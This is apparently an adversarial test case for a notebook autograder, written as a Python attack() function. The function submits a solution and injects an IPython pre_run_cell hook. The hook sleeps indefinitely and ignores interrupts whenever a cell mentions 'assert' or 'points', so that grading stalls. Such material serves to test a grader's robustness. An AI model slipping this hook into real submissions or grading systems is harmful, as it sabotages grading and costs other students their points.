"""In the child, a hook sleeps after every cell, and catches what would wake it.

Success: another question or a neighbor loses points, or the class stops.
"""

ALONE = True
DESERVES = ["square", "standardize", "total", "words", "distance", "root", "primes"]


def attack(submission):
    submission.solve()
    submission.add(
        """
        import time

        def sleep(info):
            while "assert" in info.raw_cell or "points" in info.raw_cell:
                try:
                    time.sleep(1000)
                except BaseException:
                    pass

        get_ipython().events.register("pre_run_cell", sleep)
        """,
        before="vector",
    )
